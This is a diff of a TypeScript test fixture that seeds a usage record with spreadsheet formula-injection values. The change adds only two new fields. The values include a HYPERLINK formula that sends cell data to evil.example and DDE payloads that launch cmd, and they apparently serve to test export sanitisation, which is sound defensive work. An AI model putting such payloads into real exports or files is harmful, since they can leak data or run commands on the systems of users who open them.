@@ -52,7 +52,7 @@ const seeded: UsageRecord[] = [
   {
     request_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', at, account: '@SUM(A1:A9)', key_id: '+cmd|\' /C calc\'!A0', team: '=1+team',
     model: '-2+3+cmd|\' /C calc\'!A0', provider: '\tprov', target: '\r=1', route: "'already quoted", status: -1,
-    prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0,
+    prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0, tags: [], end_user: null,
   },
 ];
 {
